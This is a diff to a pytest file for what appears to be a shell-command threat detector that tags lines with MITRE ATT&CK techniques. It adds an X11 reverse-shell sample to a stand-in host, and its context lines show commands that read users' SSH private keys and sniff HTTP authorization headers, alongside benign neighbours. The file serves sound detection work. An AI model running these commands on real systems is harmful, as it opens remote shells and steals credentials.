@@ -720,6 +720,7 @@ def test_their_everyday_uses_stay_weak(line: str) -> None:
     ("cat /home/*/.ssh/id_*", "T1552.004", 0.5),
     ("tcpdump -i eth0 -w /dev/shm/.p.pcap port 5432", "T1040", 0.45),
     ("tshark -i eth0 -Y http.authorization -T fields -e http.authorization", "T1040", 0.45),
+    ("xterm -display 203.0.113.10:1", "T1059.004", 0.6),  # an X11 reverse shell
 ])
 def test_programs_started_past_their_wrappers_and_stores_read_sideways_are_named(line: str, technique: str,
                                                                                  weight: float) -> None:
@@ -767,7 +768,7 @@ def test_a_program_started_under_another_name_is_masquerading() -> None:
     "modprobe nf_conntrack", "make -C /lib/modules/6.1.0-18-amd64/build M=/home/admin/src/drv modules",
     "busctl status", "kill -HUP 1", "kill -s 15 4242", "busybox ls /", "cat ~/.ssh/id_*.pub",
     "cp /srv/release/index.php /var/www/html/index.php", "tcpdump -i any -w /tmp/ticket-4411.pcap host 10.1.2.5",
-    "tcpdump -i eth0 -nn port 443 -c 100",
+    "tcpdump -i eth0 -nn port 443 -c 100", "xterm -display localhost:10.0", "xterm -display :0",
     "gdbus introspect --system --dest org.freedesktop.Accounts --object-path /org/freedesktop/Accounts",
 ])
 def test_their_everyday_neighbours_stay_weak(line: str) -> None:
